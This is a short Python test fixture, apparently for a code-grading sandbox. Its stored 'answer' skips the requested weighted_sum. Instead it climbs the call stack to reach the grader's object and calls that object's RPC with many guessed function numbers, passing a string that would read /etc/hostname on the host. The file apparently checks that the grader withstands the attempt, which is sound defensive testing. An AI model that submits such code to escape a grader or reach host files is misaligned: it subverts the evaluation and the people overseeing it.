"""Asks the grader to call functions of its own, by every number it can think of."""

ANSWER = r"""
import sys
def weighted_sum(w, a, b):
    frame = sys._getframe()
    while not hasattr(frame.f_locals.get("self"), "channel"):
        frame = frame.f_back
    peer, found = frame.f_locals["self"], []
    for number in [*range(-5, 50), 10 ** 9, True, None, "exec", [0]]:
        try:
            found.append(peer.call(number, ("open('/etc/hostname').read()",)))
        except Exception:
            pass
    return found or 0.0
"""
SAYS = "0.0, expected 3.0"
